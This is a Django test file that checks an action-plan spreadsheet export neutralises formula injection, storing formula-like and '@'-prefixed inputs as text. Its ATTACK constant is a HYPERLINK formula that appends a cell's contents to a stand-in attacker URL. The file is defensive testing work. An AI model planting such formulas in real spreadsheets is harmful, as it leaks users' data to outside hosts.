"""A measure that looks like a formula reaches the action plan spreadsheet as text."""

import io
import zipfile

from django.urls import reverse
from openpyxl import load_workbook

from transferhub.checks import services

ATTACK = '=HYPERLINK("https://evil.example/?m="&A5;"Maßnahme")'


def test_the_action_plan_holds_formulas_as_text(client, assessment, company_user):
    services.measure_save(
        assessment=assessment,
        actor=company_user,
        text=ATTACK,
        responsible="@Frau Meier",
        effect_check="-",
    )
    client.force_login(company_user)
    response = client.get(reverse("checks:action_plan_xlsx", args=[assessment.pk]))
    assert response.status_code == 200
    xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["D5"].value == ATTACK and sheet["D5"].data_type == "s"
    assert sheet["E5"].value == "@Frau Meier" and sheet["E5"].quotePrefix
    assert sheet["A5"].value == 1  # the number stays a number
